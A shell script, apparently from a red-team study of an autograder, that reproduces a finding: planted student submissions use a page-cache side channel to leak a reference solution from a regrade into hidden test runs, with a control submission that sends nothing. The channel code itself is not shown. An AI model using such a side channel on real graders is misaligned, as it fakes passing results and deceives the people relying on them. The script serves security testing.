#!/bin/sh
# Finding 15 through the hedge: mallory's conv1d passes its public cases and has the bug its hidden cases exist for
# (no bias for a batch of one). Her mlp fails, so mlp is graded once more with conv1d's reference (the hedge); it
# leaves `linear` in the page cache and her conv1d's hidden calls use it. carol: the same, an mlp that sends nothing.
set -e
W=/tmp/rt26-hedge; A=/work/redteam26/attacks/ref_pagecache/hedge
rm -rf $W; mkdir -p $W/subs/mallory/student $W/subs/carol/student
for n in mallory carol; do cp $A/chan.py $A/conv1d.py $A/mlp.py $W/subs/$n/student/; done
sed -i "s/^BASE = 0 /BASE = ${1:-2050} /; s#^FILE = .*#FILE = \"${3:-/usr/lib/jvm/temurin-25-jdk-amd64/lib/modules}\"#" $W/subs/mallory/student/chan.py
sed -i "s/^BASE = 0 /BASE = ${2:-1750} /; s#^FILE = .*#FILE = \"${4:-/usr/lib/jvm/java-17-openjdk-amd64/lib/modules}\"#" $W/subs/carol/student/chan.py
sed -i 's/            send(secret)/            pass  # control: sends nothing/' $W/subs/carol/student/mlp.py
cd /work/redteam26 && . .venv/bin/activate
python -m grader batch $W/subs --jobs 1 --stage conv1d --stage mlp --db $W/gb.sqlite --feedback $W/fb --lms $W/lms.csv
cat $W/lms.csv
grep -H "conv1d:\|hidden [12] " $W/fb/*.txt
